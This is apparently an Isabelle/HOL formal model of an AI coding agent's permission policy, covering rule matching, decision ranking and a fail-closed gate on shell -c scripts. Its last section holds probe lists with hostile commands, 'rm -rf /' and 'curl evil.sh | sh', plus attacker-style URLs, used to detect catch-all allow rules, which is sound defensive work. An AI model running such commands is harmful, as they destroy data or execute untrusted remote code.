(* ===== verification/PermissionPolicy.thy ===== *)
theory PermissionPolicy
  imports ShellFiles PermissionRules "HOL-Library.Multiset"
begin

text \<open>
  The permission policy (\<open>xai-grok-workspace/src/permission/policy.rs\<close>): matching and combining of
  rules, and the gate on the commands of a script. What is outside the repository is a
  parameter, collected in a record: the glob matcher, the URL parser, Unicode lower-casing, the
  bash grammar, and the file system.
\<close>

section \<open>Requests and decisions\<close>

datatype access_kind =
  ARead "rstr option"
| AGrep "rstr option" "rstr option"
| AEdit rstr
| ABash rstr
| AMcp rstr rstr
| AWebFetch rstr
| AWebSearch rstr

datatype decision =
  Allow
| Ask
| FollowupMessage rstr
| Reject rstr
| PolicyDeny rstr
| Cancelled

datatype gate_decision = GateReject rstr | AskRuleMatch | AskFailClosed

fun into_decision :: "gate_decision \<Rightarrow> decision" where
  "into_decision (GateReject reason) = Reject reason"
| "into_decision AskRuleMatch = Ask"
| "into_decision AskFailClosed = Ask"

fun is_ask :: "gate_decision \<Rightarrow> bool" where
  "is_ask (GateReject _) = False"
| "is_ask _ = True"

fun gate_rank :: "gate_decision \<Rightarrow> nat" where
  "gate_rank (GateReject _) = 3"
| "gate_rank AskRuleMatch = 2"
| "gate_rank AskFailClosed = 1"

fun combine_gate_decisions :: "gate_decision option \<Rightarrow> gate_decision option \<Rightarrow> gate_decision option" where
  "combine_gate_decisions None b = b"
| "combine_gate_decisions a None = a"
| "combine_gate_decisions (Some a) (Some b) = Some (if gate_rank b \<le> gate_rank a then a else b)"

fun decision_rank :: "decision \<Rightarrow> nat" where
  "decision_rank (Reject _) = 3"
| "decision_rank (PolicyDeny _) = 3"
| "decision_rank Ask = 2"
| "decision_rank Allow = 1"
| "decision_rank _ = 0"

fun combine_decisions :: "decision option \<Rightarrow> decision option \<Rightarrow> decision option" where
  "combine_decisions None b = b"
| "combine_decisions a None = a"
| "combine_decisions (Some a) (Some b) = Some (if decision_rank b \<le> decision_rank a then a else b)"

section \<open>Inline scripts of shells\<close>

datatype shell_word = WordLiteral rstr | WordUntrusted

definition shell_words_of :: "invocation_word list \<Rightarrow> shell_word list" where
  "shell_words_of ws = map (\<lambda>w. case w of InvLiteral s \<Rightarrow> WordLiteral s | InvUntrusted \<Rightarrow> WordUntrusted) ws"

datatype inline_shell_script = NotInline | InlineLiteral nat | InlineUntrusted | Unrecognized

definition is_potential_inline :: "inline_shell_script \<Rightarrow> bool" where
  "is_potential_inline s = (case s of InlineLiteral _ \<Rightarrow> True | InlineUntrusted \<Rightarrow> True | _ \<Rightarrow> False)"

definition ambiguous_script :: "bool \<Rightarrow> inline_shell_script" where
  "ambiguous_script saw_c = (if saw_c then InlineUntrusted else Unrecognized)"

definition finish_literal :: "bool \<Rightarrow> nat \<Rightarrow> inline_shell_script" where
  "finish_literal dynamic_head i = (if dynamic_head then InlineUntrusted else InlineLiteral i)"

definition not_seen :: "bool \<Rightarrow> inline_shell_script" where
  "not_seen unrecognized = (if unrecognized then Unrecognized else NotInline)"

text \<open>The loop over the words behind the shell; \<open>i\<close> is the index of the first of them.\<close>

fun dash_c_loop :: "bool \<Rightarrow> nat \<Rightarrow> shell_word list \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> inline_shell_script" where
  "dash_c_loop dyn i [] saw_c unrec = (if saw_c then InlineUntrusted else not_seen unrec)"
| "dash_c_loop dyn i (WordUntrusted # ws) saw_c unrec = ambiguous_script saw_c"
| "dash_c_loop dyn i (WordLiteral w # ws) saw_c unrec =
     (if w = lit ''--'' \<or> w = lit ''-'' then
        if \<not> saw_c then not_seen unrec
        else (case ws of WordLiteral _ # _ \<Rightarrow> finish_literal dyn (i + 1) | _ \<Rightarrow> InlineUntrusted)
      else if \<not> dashed w \<and> \<not> starts_with (lit ''+'') w then
        if saw_c then finish_literal dyn i else not_seen unrec
      else if w = lit ''--init-file'' \<or> w = lit ''--rcfile'' then
        (case ws of
           WordLiteral _ # ws \<Rightarrow> dash_c_loop dyn (i + 2) ws saw_c unrec
         | _ \<Rightarrow> ambiguous_script saw_c)
      else if ddashed w then
        if one_of w [''--noprofile'', ''--norc'', ''--posix''] then dash_c_loop dyn (i + 1) ws saw_c unrec
        else if saw_c then InlineUntrusted
        else dash_c_loop dyn (i + 1) ws saw_c True
      else if one_of w [''-o'', ''+o'', ''-O'', ''+O''] then
        (case ws of
           WordLiteral v # ws \<Rightarrow>
             if \<not> dashed v then dash_c_loop dyn (i + 2) ws saw_c unrec else ambiguous_script saw_c
         | _ \<Rightarrow> ambiguous_script saw_c)
      else if starts_with (lit ''-O'') w \<and> 2 < length w then dash_c_loop dyn (i + 1) ws saw_c unrec
      else if (starts_with (lit ''+O'') w \<or> starts_with (lit ''+o'') w) \<and> 2 < length w
      then dash_c_loop dyn (i + 1) ws saw_c unrec
      else if starts_with (lit ''-o'') w \<and> 2 < length w then ambiguous_script saw_c
      else if starts_with (lit ''+'') w then dash_c_loop dyn (i + 1) ws saw_c unrec
      else if 111 \<in> set (tl w) \<or> 79 \<in> set (tl w) then ambiguous_script saw_c
      else dash_c_loop dyn (i + 1) ws (saw_c \<or> 99 \<in> set (tl w)) unrec)"

definition shell_dash_c_script :: "shell_word list \<Rightarrow> inline_shell_script" where
  "shell_dash_c_script ws =
     (case ws of
        [] \<Rightarrow> NotInline
      | WordLiteral program # rest \<Rightarrow>
          if \<not> one_of (basename program) [''bash'', ''sh'', ''dash'', ''zsh'', ''ksh''] then NotInline
          else dash_c_loop False 1 rest False False
      | WordUntrusted # rest \<Rightarrow> dash_c_loop True 1 rest False False)"

section \<open>Matching\<close>

record 'g compiled_policy =
  policy_config :: permission_config
  matchers :: "'g option list"
  has_file_restrictions :: bool
  has_bash_command_restrictions :: bool
  has_bash_allow_rules :: bool

record 'g policy_env =
  glob_new :: "rstr \<Rightarrow> 'g option"
  glob_matches_with :: "'g \<Rightarrow> rstr \<Rightarrow> bool \<Rightarrow> bool"
  url_host :: "rstr \<Rightarrow> rstr option"
  to_lowercase :: "rstr \<Rightarrow> rstr"
  try_parse_shell :: "rstr \<Rightarrow> shell_tree option"
  file_view :: fs_view

definition all_commands_from_script :: "'g policy_env \<Rightarrow> rstr \<Rightarrow> argv list option" where
  "all_commands_from_script env cmd = Option.bind (try_parse_shell env cmd) commands_of_tree"

definition bash_rule :: "permission_rule \<Rightarrow> bool" where
  "bash_rule r \<longleftrightarrow> rule_tool r = FBash \<or> rule_tool r = FAny"

definition restricts :: "permission_rule \<Rightarrow> bool" where
  "restricts r \<longleftrightarrow> rule_act r = RuleDeny \<or> rule_act r = RuleAsk"

definition compile_matcher :: "'g policy_env \<Rightarrow> permission_rule \<Rightarrow> 'g option" where
  "compile_matcher env r =
     (case rule_pattern r of
        None \<Rightarrow> None
      | Some p \<Rightarrow> if p = lit ''*'' then None else glob_new env p)"

definition new_policy :: "'g policy_env \<Rightarrow> permission_config \<Rightarrow> 'g compiled_policy" where
  "new_policy env config =
     \<lparr>policy_config = config,
      matchers = map (compile_matcher env) (config_rules config),
      has_file_restrictions =
        list_ex (\<lambda>r. restricts r \<and> (rule_tool r = FRead \<or> rule_tool r = FEdit \<or> rule_tool r = FAny))
          (config_rules config),
      has_bash_command_restrictions =
        list_ex (\<lambda>r. restricts r \<and> bash_rule r) (config_rules config),
      has_bash_allow_rules =
        list_ex (\<lambda>r. rule_act r = RuleAllow \<and> bash_rule r) (config_rules config)\<rparr>"

definition tool_filter_matches :: "access_kind \<Rightarrow> tool_filter \<Rightarrow> bool" where
  "tool_filter_matches access f =
     (case f of
        FAny \<Rightarrow> True
      | FBash \<Rightarrow> (case access of ABash _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FEdit \<Rightarrow> (case access of AEdit _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FRead \<Rightarrow> (case access of ARead _ \<Rightarrow> True | AGrep _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FGrep \<Rightarrow> (case access of AGrep _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FMcp \<Rightarrow> (case access of AMcp _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FWebFetch \<Rightarrow> (case access of AWebFetch _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FWebSearch \<Rightarrow> (case access of AWebSearch _ \<Rightarrow> True | _ \<Rightarrow> False))"

definition matches_command_prefix :: "rstr \<Rightarrow> rstr \<Rightarrow> bool" where
  "matches_command_prefix cmd pattern \<longleftrightarrow>
     cmd = pattern \<or> starts_with pattern cmd \<and> length pattern < length cmd \<and> cmd ! length pattern = 32"

text \<open>\<open>glob_matches\<close>; the flag says whether a star stops at a slash.\<close>

definition glob_matches :: "'g policy_env \<Rightarrow> rstr \<Rightarrow> bool \<Rightarrow> 'g option \<Rightarrow> bool" where
  "glob_matches env s path pat = (case pat of None \<Rightarrow> False | Some g \<Rightarrow> glob_matches_with env g s path)"

definition trim_end_matches :: "rchar \<Rightarrow> rstr \<Rightarrow> rstr" where
  "trim_end_matches c s = rev (dropWhile (\<lambda>d. d = c) (rev s))"

definition normalize_domain :: "'g policy_env \<Rightarrow> rstr \<Rightarrow> rstr" where
  "normalize_domain env raw =
     (let s = trim_end_matches 46 (trim_end_matches 47 (trim raw));
          s = (case strip_prefix (lit ''www.'') s of Some r \<Rightarrow> r | None \<Rightarrow> s)
      in to_lowercase env s)"

definition domain_matches :: "'g policy_env \<Rightarrow> rstr \<Rightarrow> rstr \<Rightarrow> bool" where
  "domain_matches env pattern url =
     (case url_host env url of
        None \<Rightarrow> False
      | Some host \<Rightarrow>
          (let domain = normalize_domain env host; pat = normalize_domain env pattern
           in domain = pat \<or> ends_with (lit ''.'' @ pat) domain))"

definition bash_allow_pattern_matches :: "'g policy_env \<Rightarrow> rstr \<Rightarrow> permission_rule \<Rightarrow> 'g option \<Rightarrow> bool" where
  "bash_allow_pattern_matches env cmd rule matcher =
     (let cmd = trim_start cmd
      in case rule_pattern rule of
           None \<Rightarrow> True
         | Some p \<Rightarrow>
             p = lit ''*'' \<or> matches_command_prefix cmd p \<or> glob_matches env cmd False matcher)"

definition pattern_matches :: "'g policy_env \<Rightarrow> access_kind \<Rightarrow> permission_rule \<Rightarrow> 'g option \<Rightarrow> bool" where
  "pattern_matches env access rule matcher =
     (case rule_pattern rule of
        None \<Rightarrow> True
      | Some p \<Rightarrow>
          if p = lit ''*'' then True
          else
            (case access of
               ABash cmd \<Rightarrow>
                 starts_with p (trim_start cmd) \<or> glob_matches env (trim_start cmd) False matcher
             | AEdit path \<Rightarrow> glob_matches env path True matcher
             | ARead path \<Rightarrow> (case path of Some q \<Rightarrow> glob_matches env q True matcher | None \<Rightarrow> False)
             | AGrep path _ \<Rightarrow> (case path of Some q \<Rightarrow> glob_matches env q True matcher | None \<Rightarrow> False)
             | AMcp name _ \<Rightarrow> glob_matches env name False matcher
             | AWebFetch url \<Rightarrow>
                 (case rule_pattern_mode rule of
                    Domain \<Rightarrow> domain_matches env p url
                  | Glob \<Rightarrow> glob_matches env url False matcher)
             | AWebSearch query \<Rightarrow> glob_matches env query False matcher \<or> starts_with p query))"

section \<open>The rules for one request\<close>

definition compiled_rules :: "'g compiled_policy \<Rightarrow> (permission_rule \<times> 'g option) list" where
  "compiled_rules p = zip (config_rules (policy_config p)) (matchers p)"

fun tool_label :: "tool_filter \<Rightarrow> string" where
  "tool_label FAny = ''any tool''"
| "tool_label FBash = ''bash''"
| "tool_label FEdit = ''edit''"
| "tool_label FRead = ''read''"
| "tool_label FGrep = ''grep''"
| "tool_label FMcp = ''mcp''"
| "tool_label FWebFetch = ''web_fetch''"
| "tool_label FWebSearch = ''web_search''"

definition deny_reason :: "permission_rule \<Rightarrow> rstr" where
  "deny_reason rule =
     lit ''Denied by permission policy: deny rule on '' @ lit (tool_label (rule_tool rule)) @
     (case rule_pattern rule of
        None \<Rightarrow> []
      | Some p \<Rightarrow> lit '' matching '' @ [34] @ p @ [34])"

text \<open>\<open>bash_words_allowed\<close> and \<open>bash_chain_fully_allowed\<close>. The recursion into an inline script goes
  through the argument \<open>rec\<close>, which the outer function supplies for one level less.\<close>

definition bash_words_allowed :: "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> argv \<Rightarrow> bool" where
  "bash_words_allowed env p ws \<longleftrightarrow>
     ws \<noteq> [] \<and>
     list_ex (\<lambda>(rule, matcher). rule_act rule = RuleAllow \<and> bash_rule rule \<and>
                 bash_allow_pattern_matches env (join (lit '' '') ws) rule matcher)
       (compiled_rules p)"

definition normalized_words_allowed ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> (rstr \<Rightarrow> bool) \<Rightarrow> normalized \<Rightarrow> bool" where
  "normalized_words_allowed env p rec norm =
     (if norm_exhausted norm \<or> norm_ambiguous norm \<or> norm_uncertain norm \<or> norm_split norm then False
      else if \<not> bash_words_allowed env p (norm_words norm) then False
      else
        (case shell_dash_c_script (map WordLiteral (norm_words norm)) of
           InlineLiteral i \<Rightarrow> rec (norm_words norm ! i)
         | NotInline \<Rightarrow> True
         | _ \<Rightarrow> False))"

definition segment_allowed ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> (rstr \<Rightarrow> bool) \<Rightarrow> argv \<Rightarrow> bool" where
  "segment_allowed env p rec raw = normalized_words_allowed env p rec (normalize_command_words raw)"

definition script_allowed ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> (rstr \<Rightarrow> bool) \<Rightarrow> rstr \<Rightarrow> bool" where
  "script_allowed env p rec cmd =
     (case all_commands_from_script env cmd of
        None \<Rightarrow> False
      | Some segments \<Rightarrow> segments \<noteq> [] \<and> list_all (segment_allowed env p rec) segments)"

primrec bash_chain_fully_allowed :: "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> nat \<Rightarrow> rstr \<Rightarrow> bool" where
  "bash_chain_fully_allowed env p 0 = script_allowed env p (\<lambda>_. False)"
| "bash_chain_fully_allowed env p (Suc d) = script_allowed env p (bash_chain_fully_allowed env p d)"

text \<open>The loop of \<open>evaluate\<close>: it returns at the first deny rule, and otherwise says whether an ask
  rule and whether an allow rule matched.\<close>

definition rule_matches :: "'g policy_env \<Rightarrow> access_kind \<Rightarrow> permission_rule \<Rightarrow> 'g option \<Rightarrow> bool" where
  "rule_matches env access rule matcher \<longleftrightarrow>
     tool_filter_matches access (rule_tool rule) \<and> pattern_matches env access rule matcher"

fun eval_loop ::
  "'g policy_env \<Rightarrow> access_kind \<Rightarrow> (permission_rule \<times> 'g option) list \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> rstr + bool \<times> bool" where
  "eval_loop env access [] ask allow = Inr (ask, allow)"
| "eval_loop env access ((rule, matcher) # rules) ask allow =
     (if \<not> tool_filter_matches access (rule_tool rule) then eval_loop env access rules ask allow
      else if \<not> pattern_matches env access rule matcher then eval_loop env access rules ask allow
      else
        (case rule_act rule of
           RuleDeny \<Rightarrow> Inl (deny_reason rule)
         | RuleAsk \<Rightarrow> eval_loop env access rules True allow
         | RuleAllow \<Rightarrow> eval_loop env access rules ask True))"

definition evaluate :: "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> access_kind \<Rightarrow> decision option" where
  "evaluate env p access =
     (case eval_loop env access (compiled_rules p) False False of
        Inl reason \<Rightarrow> Some (Reject reason)
      | Inr (matched_ask, matched_allow) \<Rightarrow>
          if matched_ask then Some Ask
          else
            (case access of
               ABash cmd \<Rightarrow>
                 if has_bash_allow_rules p \<and> bash_chain_fully_allowed env p MAX_INLINE_SHELL_DEPTH cmd
                 then Some Allow else None
             | _ \<Rightarrow> if matched_allow then Some Allow else None))"

section \<open>The gate on the commands of a script\<close>

definition escalate :: "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> argv \<Rightarrow> gate_decision option" where
  "escalate env p ws =
     (case evaluate env p (ABash (join (lit '' '') ws)) of
        Some (Reject reason) \<Rightarrow> Some (GateReject reason)
      | Some Ask \<Rightarrow> Some AskRuleMatch
      | _ \<Rightarrow> None)"

definition fail_closed_if :: "bool \<Rightarrow> gate_decision option" where
  "fail_closed_if b = (if b then Some AskFailClosed else None)"

text \<open>\<open>evaluate_command_words\<close>, in its steps: the alarms of the normalization, the rules on the raw and on
  the normalized words, an inline script, a packed script.\<close>

definition forms_gate :: "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> argv \<Rightarrow> normalized \<Rightarrow> gate_decision option" where
  "forms_gate env p raw norm =
     combine_gate_decisions
       (combine_gate_decisions
         (combine_gate_decisions
           (fail_closed_if (norm_exhausted norm \<or> norm_ambiguous norm \<or> norm_uncertain norm))
           (fail_closed_if (norm_split norm)))
         (escalate env p raw))
       (if length (norm_words norm) \<noteq> length raw then escalate env p (norm_words norm) else None)"

definition inline_gate ::
  "(rstr \<Rightarrow> gate_decision option) \<Rightarrow> argv \<Rightarrow> gate_decision option \<Rightarrow> gate_decision option" where
  "inline_gate rec inner d =
     (case shell_dash_c_script (map WordLiteral inner) of
        InlineLiteral i \<Rightarrow> combine_gate_decisions d (rec (inner ! i))
      | InlineUntrusted \<Rightarrow> combine_gate_decisions d (Some AskFailClosed)
      | Unrecognized \<Rightarrow> combine_gate_decisions d (Some AskFailClosed)
      | NotInline \<Rightarrow> d)"

definition packed_gate ::
  "(rstr \<Rightarrow> gate_decision option) \<Rightarrow> argv \<Rightarrow> gate_decision option \<Rightarrow> gate_decision option" where
  "packed_gate rec inner d =
     (case env_split_string_script inner of
        Some script \<Rightarrow> combine_gate_decisions d (rec script)
      | None \<Rightarrow> d)"

definition normalized_words_gate ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> (rstr \<Rightarrow> gate_decision option) \<Rightarrow> argv \<Rightarrow> normalized \<Rightarrow>
   gate_decision option" where
  "normalized_words_gate env p rec raw norm =
     packed_gate rec (norm_words norm) (inline_gate rec (norm_words norm) (forms_gate env p raw norm))"

definition evaluate_command_words ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> (rstr \<Rightarrow> gate_decision option) \<Rightarrow> argv \<Rightarrow> gate_decision option" where
  "evaluate_command_words env p rec raw = normalized_words_gate env p rec raw (normalize_command_words raw)"

text \<open>The loop over the segments, with the decision so far.\<close>

fun combine_segments :: "(argv \<Rightarrow> gate_decision option) \<Rightarrow> gate_decision option \<Rightarrow> argv list \<Rightarrow> gate_decision option" where
  "combine_segments gate decision [] = decision"
| "combine_segments gate decision (parsed # segments) =
     combine_segments gate (combine_gate_decisions decision (gate parsed)) segments"

definition script_gate ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> (rstr \<Rightarrow> gate_decision option) \<Rightarrow> rstr \<Rightarrow> gate_decision option" where
  "script_gate env p rec cmd =
     (case all_commands_from_script env cmd of
        None \<Rightarrow> Some AskFailClosed
      | Some segments \<Rightarrow>
          combine_segments (evaluate_command_words env p rec) None segments)"

text \<open>With no level left an inline script is not entered; it asks.\<close>

primrec evaluate_bash_command_segments ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> nat \<Rightarrow> rstr \<Rightarrow> gate_decision option" where
  "evaluate_bash_command_segments env p 0 = script_gate env p (\<lambda>_. Some AskFailClosed)"
| "evaluate_bash_command_segments env p (Suc d) = script_gate env p (evaluate_bash_command_segments env p d)"

definition evaluate_bash_command_gate :: "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> rstr \<Rightarrow> gate_decision option" where
  "evaluate_bash_command_gate env p cmd =
     (if \<not> has_bash_command_restrictions p then None
      else evaluate_bash_command_segments env p MAX_INLINE_SHELL_DEPTH cmd)"

definition evaluate_bash_command_policy :: "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> rstr \<Rightarrow> decision option" where
  "evaluate_bash_command_policy env p cmd = map_option into_decision (evaluate_bash_command_gate env p cmd)"

section \<open>Catch-all rules\<close>

definition bash_probes :: "access_kind list" where
  "bash_probes = map (ABash \<circ> lit) [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition mcp_probes :: "access_kind list" where
  "mcp_probes =
     map (\<lambda>n. AMcp (lit n) (lit ''null''))
       [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "access_kind list" where
  "webfetch_probes =
     map (AWebFetch \<circ> lit)
       [''https://evil.example.com/x'', ''http://10.0.0.1/admin'', ''https://api.github.com/repos'',
        ''ftp://files.example.org/p'']"

definition opens_all :: "'g policy_env \<Rightarrow> permission_rule \<Rightarrow> access_kind list \<Rightarrow> bool" where
  "opens_all env rule probes = list_all (\<lambda>a. pattern_matches env a rule (compile_matcher env rule)) probes"

definition rule_is_catchall :: "'g policy_env \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_is_catchall env rule =
     (case rule_tool rule of
        FBash \<Rightarrow> opens_all env rule bash_probes
      | FMcp \<Rightarrow> opens_all env rule mcp_probes
      | FWebFetch \<Rightarrow> opens_all env rule webfetch_probes
      | FAny \<Rightarrow> opens_all env rule bash_probes \<or> opens_all env rule mcp_probes \<or> opens_all env rule webfetch_probes
      | _ \<Rightarrow> False)"

end
